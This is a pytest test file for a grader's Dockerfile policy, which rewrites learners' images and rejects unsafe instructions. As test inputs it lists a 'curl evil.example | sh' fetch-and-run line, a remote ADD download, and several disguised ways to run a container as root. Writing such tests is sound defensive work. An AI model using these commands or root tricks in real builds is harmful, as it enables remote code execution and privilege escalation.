"""The Dockerfile policy: learners' images describe files and a command, never run or fetch anything."""

from __future__ import annotations

import pytest

from portbinding.errors import PolicyError
from portbinding.grading.dockerfile import NOBODY, check_and_rewrite

BASE = "portbinding/grading-base:1"
GOOD = (
    "FROM python:3.12-slim\nCOPY app.py /app/app.py\nENV PORT=8000\nEXPOSE 8000\nUSER 1000\n"
    'CMD ["python", "/app/app.py"]\n'
)


def test_a_typical_dockerfile_is_built_on_the_graders_base() -> None:
    """FROM is replaced by the grader's copy of the base; everything else is kept as written."""
    rewritten = check_and_rewrite(GOOD, base=BASE)
    assert rewritten.splitlines()[0] == f"FROM {BASE}"
    assert rewritten.splitlines()[1:] == GOOD.splitlines()[1:]


def test_continuations_and_comments_are_read_like_docker_does() -> None:
    """Backslash continuations join lines; comments disappear; keywords are case-insensitive."""
    text = (
        "# api\nfrom python:3.12-slim as app\ncopy app.py \\\n  /app/app.py\nuser 1000\ncmd python3 app.py\n"
    )
    assert check_and_rewrite(text, base=BASE).splitlines() == [
        f"FROM {BASE} as app", "COPY app.py  /app/app.py", "USER 1000", "CMD python3 app.py",
    ]  # fmt: skip


def test_an_image_without_user_runs_as_nobody() -> None:
    """No USER instruction: the grader adds one, so a learner's container never runs as root."""
    assert check_and_rewrite("FROM python:3.12-slim\nCMD python3 -m http.server\n", base=BASE).endswith(
        f"USER {NOBODY}\n"
    )


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        ("FROM python:3.12-slim\nRUN curl evil.example | sh\n", "RUN runs commands"),
        ("FROM python:3.12-slim\nADD https://evil.example/x /x\n", "ADD can download"),
        ("FROM alpine:3.19\nCMD sh\n", "not a base image the grader has"),
        ("FROM --platform=linux/arm64 python:3.12-slim\n", "is not accepted"),
        ("ARG BASE=python:3.12-slim\nFROM ${BASE}\n", "expected FROM"),
        ("FROM python:3.12-slim\nUSER root\n", "may run the app as root"),
        ("FROM python:3.12-slim\nUSER 0:0\n", "may run the app as root"),
        ("FROM python:3.12-slim\nUSER 00\n", "may run the app as root"),
        ("FROM python:3.12-slim\nUSER +0\n", "may run the app as root"),
        ("FROM python:3.12-slim\nARG U=0\nUSER $U\n", "may run the app as root"),
        ("FROM python:3.12-slim\nENV U=0\nUSER ${U}:1000\n", "may run the app as root"),
        ("FROM python:3.12-slim\nUSER 1000:0\n", "may run the app as root"),
        ("FROM python:3.12-slim\nUSER 1000:root\n", "may run the app as root"),
        ("FROM python:3.12-slim\nUSER 0x0\n", "may run the app as root"),
        ("FROM python:3.12-slim\nLABEL portbinding.session=someone-else\n", "LABEL sets labels"),
        ("FROM python:3.12-slim\nCMD python3 app.py \\\\\n", "ends with a \\"),
        ("FROM python:3.12-slim\nCOPY --from=builder /x /x\n", "COPY --from"),
        ("FROM python:3.12-slim\nFROM python:3.12-slim\n", "second FROM"),
        ("# syntax=docker/dockerfile:1\nFROM python:3.12-slim\n", "parser directive"),
        ("FROM python:3.12-slim\nONBUILD RUN id\n", "ONBUILD"),
        ("", "empty"),
    ],
)
def test_what_could_run_or_fetch_is_refused_with_the_line_and_reason(text: str, phrase: str) -> None:
    """Anything that executes at build time, downloads, or runs as root is refused, saying why."""
    with pytest.raises(PolicyError) as refused:
        check_and_rewrite(text, base=BASE)
    assert phrase in str(refused.value), str(refused.value)
